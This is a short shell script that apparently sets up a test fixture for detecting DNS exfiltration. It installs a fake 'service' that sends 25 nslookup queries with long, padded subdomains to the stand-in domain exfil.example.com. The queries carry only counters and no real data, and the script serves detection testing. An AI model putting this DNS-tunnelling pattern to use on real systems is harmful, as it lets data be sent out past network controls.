#!/bin/sh
# Fixture dns-exfiltration: The service leaks data in 25 long subdomains of one domain.
set -e
mkdir -p /usr/local/bin
cat > /usr/local/bin/service <<'SERVICE'
#!/bin/sh
for i in $(seq 1 25); do
	nslookup "$(printf 'a%031d' "$i").exfil.example.com" > /dev/null
done
SERVICE
chmod 755 /usr/local/bin/service
